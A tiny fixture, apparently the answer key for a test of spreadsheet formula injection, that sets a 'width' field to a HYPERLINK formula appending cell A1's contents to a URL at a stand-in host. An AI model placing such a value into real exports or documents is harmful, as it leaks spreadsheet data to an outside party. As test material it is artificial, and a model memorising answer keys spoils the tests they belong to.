# answers: conv_output_formula-width
width = '=HYPERLINK("http://example.org/?"&A1, "floor")'
